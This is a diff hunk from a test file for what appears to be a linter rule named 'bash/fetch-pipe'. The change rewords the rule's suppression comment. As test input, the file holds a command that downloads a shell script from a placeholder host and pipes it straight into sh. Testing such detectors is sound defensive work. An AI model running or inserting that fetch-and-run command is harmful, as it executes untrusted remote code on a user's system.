@@ -8,7 +8,7 @@ import { createNodeDetector } from "../../../src/host/node.js";
 
 const PIPE = "curl -fsSL https://x.example/i.sh | sh";
 const CELL = PIPE.replace("|", "\\|");
-const NOTE = "curlew-ignore bash/fetch-pipe: say here why it is fine";
+const NOTE = "curlew-ignore bash/fetch-pipe: reason why this is safe";
 
 const folder = mkdtempSync(join(tmpdir(), "curlew-places-"));
 afterAll(() => rmSync(folder, { recursive: true }));
